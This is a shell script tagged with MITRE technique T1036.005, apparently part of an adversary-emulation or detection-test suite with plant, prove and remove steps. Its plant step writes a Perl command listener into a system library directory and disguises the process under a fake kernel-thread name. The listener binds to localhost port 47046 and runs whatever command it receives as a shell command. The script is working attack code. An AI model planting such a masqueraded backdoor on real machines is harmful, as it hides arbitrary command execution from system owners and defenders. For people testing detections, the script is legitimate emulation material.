#!/bin/sh
# T1036.005 (loud): An interpreter under a kernel thread's name
M=/var/tmp/luytre-foothold N=46-kernel-thread-name
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
bg() { setsid nohup "$@" </dev/null >/dev/null 2>&1 & sleep 1; }
ends() { for p in $(pgrep -f -- "$1"); do [ "$p" = $$ ] || kill -9 "$p"; done 2>/dev/null; }
ask() { python3 -c 'import socket, sys
import time
for n in range(20):
    try: s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), 5); break
    except OSError: time.sleep(0.25)
s.settimeout(5); s.sendall((sys.argv[2] + "\n").encode()); s.shutdown(1); d = b""
while True:
    try: b = s.recv(999)
    except OSError: break
    if not b: break
    d += b
print(d.decode("utf-8", "replace"))' "$1" "$2"; }
plant() {
  w /usr/lib/x86_64-linux-gnu/perl-base/kw.pl <<'E'
use Socket; $0='[kworker/u9:1-events]';
socket(S,PF_INET,SOCK_STREAM,6);setsockopt(S,SOL_SOCKET,SO_REUSEADDR,1);bind(S,sockaddr_in(47046,inet_aton('127.0.0.1')));listen(S,5);
while(accept(C,S)){my $l=<C>;print C `$l`;close C}
E
  bg perl /usr/lib/x86_64-linux-gnu/perl-base/kw.pl
}
prove() {
  rm -f "$M/$N"
  pgrep -f '^\[kworker/u9:1-events' >/dev/null && ask 47046 "id > /var/tmp/luytre-foothold/46-kernel-thread-name"; seen
}
remove() {
  ends 'kworker/u9:1-events'; rm -f /usr/lib/x86_64-linux-gnu/perl-base/kw.pl
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
